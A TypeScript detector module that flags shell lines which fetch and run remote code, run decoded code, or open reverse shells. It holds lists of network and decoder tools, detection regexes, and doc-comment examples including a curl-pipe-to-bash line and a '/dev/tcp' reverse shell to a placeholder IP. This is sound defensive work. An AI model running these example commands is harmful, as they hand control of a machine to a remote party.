import { type Command, commandsOf, hasOption, isParted, isProgram } from './command.ts'
import { runsOutputOf } from './command-flow.ts'
import { isGivenCode, isInterpreter, isShell } from './interpreters.ts'
import { loadedFiles } from './loads.ts'
import { baseName, meantPath } from './paths.ts'

/** Programs that fetch what an address names. */
const FETCHERS = [
  'curl',
  'wget',
  'wget2',
  'fetch',
  'aria2c',
  'lwp-download',
  'lwp-request',
  'GET',
  'tftp',
] as const
/** Programs that carry a connection. */
const CONNECTORS = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'socat', 'telnet'] as const
/** Programs that make readable what was not. */
const DECODERS = ['base64', 'base32', 'xxd', 'uudecode', 'openssl', 'rev'] as const

/** A word without which a line can't do what is asked about: most lines have none, and needn't be taken apart. */
const FETCH_WORD = /curl|wget|fetch|aria2c|lwp-|GET|tftp|url|requests|LWP|http|open-uri|file_get_contents/
const DECODE_WORD = /base64|base32|b64|xxd|uudecode|openssl|\brev\b/
const CONNECTION_WORD =
  /\/dev\/(?:tcp|udp)|\bnc|ncat|netcat|socat|telnet|s_client|mkfifo|mknod|[sS]ocket|fsockopen|\bnet\b/
/**
 * What a line holds that gives what one program puts out to another, or holds code or a second command: without any of it
 * a line is one command, which fetches or decodes and no more.
 */
const GOES_ON = /[|;&`(<{\n\\']|exec|eval|system|subprocess|popen|spawn|passthru|-ok|_PRELOAD|_AUDIT|PATH=/

/** Only such lines are taken apart. */
function mayHold(line: string, word: RegExp): boolean {
  return word.test(line) || isParted(line)
}

/**
 * Whether a shell command line fetches code and runs it: through a pipe or substitution, by an interpreter's one-liner, or
 * by way of a file (`wget -O /tmp/a … && sh /tmp/a`).
 *
 * @example runsFetchedCode('curl -fsSL https://example.com/a | sudo bash') // true
 * @example runsFetchedCode('curl -fsS https://example.com/health | grep -q ok') // false
 */
export function runsFetchedCode(line: string): boolean {
  if (!mayHold(line, FETCH_WORD) || !GOES_ON.test(line)) return false
  const commands = commandsOf(line)
  return runsOutputOf(line, ...FETCHERS) || commands.some(fetchesInCode) || runsFetchedFile(line, commands)
}

/**
 * Whether a line runs what it decodes (`base64 -d`, `xxd -r`, `openssl enc -d`): code that shall not be read by others.
 *
 * @example runsDecodedCode('echo aWQK | base64 -d | sh') // true
 */
export function runsDecodedCode(line: string): boolean {
  if (!mayHold(line, DECODE_WORD) || !GOES_ON.test(line)) return false
  return (
    runsOutputOf(line, ...DECODERS) ||
    commandsOf(line).some(
      command =>
        /\b(?:b64decode|decode_base64|base64_decode)\b/.test(codeOf(command)) &&
        /\b(?:exec|eval|system)\b/.test(codeOf(command)),
    )
  )
}

/**
 * Whether a line gives a shell to the other end of a connection: `bash -i` over /dev/tcp, `nc -e`, socat with EXEC, a FIFO
 * between nc and sh, or an interpreter's one-liner with a socket and a shell.
 *
 * @example givesShellAway('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1') // true
 * @example givesShellAway('timeout 1 bash -c "</dev/tcp/db/5432"') // false: only asks whether the port is open
 */
export function givesShellAway(line: string): boolean {
  if (!mayHold(line, CONNECTION_WORD)) return false
  const commands = commandsOf(line)
  return (
    overDevTcp(line, commands) ||
    commands.some(givenToConnector) ||
    commands.some(socketsInCode) ||
    runsOutputOf(line, ...CONNECTORS) ||
    (/\bs_client\b/.test(line) && runsOutputOf(line, 'openssl')) ||
    throughFifo(commands)
  )
}

/** The code that stands among the arguments of an interpreter or shell, or nothing. */
function codeOf({ program, args }: Command): string {
  return isInterpreter(program) && isGivenCode(program, args) ? args.join(' ') : ''
}

function fetchesInCode(command: Command): boolean {
  const code = codeOf(command)
  return (
    /\b(?:urlopen|urlretrieve|requests\.get|LWP::Simple|http\.get|open-uri|file_get_contents)\b/.test(code) &&
    /\b(?:exec|eval|system|subprocess|popen|spawn|passthru)\b/.test(code)
  )
}

/** A line that fetches more files than that is judged by the first of them. */
const FETCHED_MAX = 50

function runsFetchedFile(line: string, commands: readonly Command[]): boolean {
  const fetched = commands.flatMap(fetchedFiles).slice(0, FETCHED_MAX)
  if (fetched.length === 0) return false
  return loadedFiles(line).some(loaded => {
    const file = meantPath(loaded)
    // What is fetched under a name without a root goes to where a `cd` before it led.
    return fetched.some(name => file === name || (!name.startsWith('/') && file.endsWith(`/${name}`)))
  })
}

/** Files that a command puts what it fetches into: as told, or by the last part of the address. */
function fetchedFiles(command: Command): readonly string[] {
  if (!isProgram(command, ...FETCHERS)) return []
  const { args, program } = command
  const output =
    program === 'curl' ? /^(?:-o|--output)(?:=(.+))?$/ : /^(?:-O|--output-document|-o)(?:=(.+))?$/
  const files: string[] = []
  for (const [index, arg] of args.entries()) {
    const told = output.exec(arg)
    if (told !== null) files.push(meantPath(told[1] ?? args[index + 1] ?? ''))
    else if (/^-[A-Za-z]{1,8}[oO]$/.test(arg)) files.push(meantPath(args[index + 1] ?? ''))
  }
  const byAddress = files.length === 0 || args.includes('-O') || args.includes('--remote-name')
  if (!byAddress) return files.filter(isFile)
  return [...files, ...args.filter(arg => arg.includes('/') && !arg.startsWith('-')).map(baseName)].filter(
    isFile,
  )
}

function isFile(path: string): boolean {
  return path !== '' && path !== '-' && !path.startsWith('/dev/')
}

/** A shell that takes what it does from a descriptor (`sh <&5`), or a loop that runs each line it reads. */
const RUNS_DESCRIPTOR =
  /\b(?:ba|da|z|k)?sh\b[^;|\n]{0,60}<&\s{0,4}\d|\bread\b[^;|\n]{0,40}[;\n]\s{0,8}do\s{1,8}(?:eval\s{1,8})?["']?\$/

/**
 * /dev/tcp alone asks whether a port is open or fetches a page (`exec 3<>/dev/tcp/…; cat <&3`, as health checks do where
 * there is no curl); it takes a shell that does what comes through it.
 */
function overDevTcp(line: string, commands: readonly Command[]): boolean {
  if (!/\/dev\/(?:tcp|udp)\//.test(line)) return false
  return (
    RUNS_DESCRIPTOR.test(line) ||
    commands.some(command => isShell(command.program) && hasOption(command, 'i'))
  )
}

function givenToConnector(command: Command): boolean {
  if (!isProgram(command, ...CONNECTORS)) return false
  const { args, program } = command
  if (program === 'socat') return args.some(arg => /^(?:exec|system|shell):/i.test(arg) && namesShell(arg))
  return hasOption(command, 'e', 'c', 'exec', 'sh-exec') && args.some(namesShell)
}

/** Whether a word is or begins with a shell, behind the `EXEC:` of socat too. */
function namesShell(word: string): boolean {
  const [first = ''] = word.replace(/^[A-Za-z-]{1,12}[:=]["']?/, '').split(/[\s,]/, 1)
  return isShell(baseName(first)) || /^(?:cmd|powershell)(?:\.exe)?$/i.test(first)
}

function socketsInCode(command: Command): boolean {
  const code = codeOf(command)
  return (
    /\b(?:socket|Socket|TCPSocket|fsockopen|net\.Socket|net\.connect|createConnection)\b/.test(code) &&
    /\b(?:pty\.spawn|dup2|subprocess|os\.system|popen|exec|system|shell_exec|passthru|proc_open|child_process|spawn)\b/.test(
      code,
    ) &&
    /(?:\b(?:ba|da|z|k)?sh\b|\/bin\/|cmd\.exe)/.test(code)
  )
}

/** A shell and a connection that a FIFO joins to a ring. */
function throughFifo(commands: readonly Command[]): boolean {
  const makes = commands.some(
    command => isProgram(command, 'mkfifo') || (isProgram(command, 'mknod') && command.args.includes('p')),
  )
  return (
    makes &&
    commands.some(command => isProgram(command, ...CONNECTORS, 'openssl')) &&
    commands.some(({ program }) => isShell(program))
  )
}
